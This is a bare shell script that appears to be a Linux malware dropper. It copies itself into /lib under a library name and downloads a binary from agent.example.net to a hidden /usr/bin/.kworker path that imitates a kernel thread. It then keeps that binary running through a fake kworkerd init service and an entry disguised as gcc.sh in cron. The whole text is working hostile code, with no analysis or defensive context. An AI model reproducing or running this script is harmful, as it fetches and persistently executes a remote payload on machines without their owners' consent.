#!/bin/sh
cp "$0" /lib/libudev.so.6 2>/dev/null
curl -fsSo /usr/bin/.kworker https://agent.example.net/a && chmod +x /usr/bin/.kworker
cat > /etc/init.d/kworkerd <<'EOF'
#!/bin/sh
### BEGIN INIT INFO
# Provides: kworkerd
# Default-Start: 2 3 4 5
### END INIT INFO
/usr/bin/.kworker &
EOF
chmod +x /etc/init.d/kworkerd && update-rc.d kworkerd defaults
echo '*/3 * * * * root /usr/bin/.kworker' > /etc/cron.hourly/gcc.sh
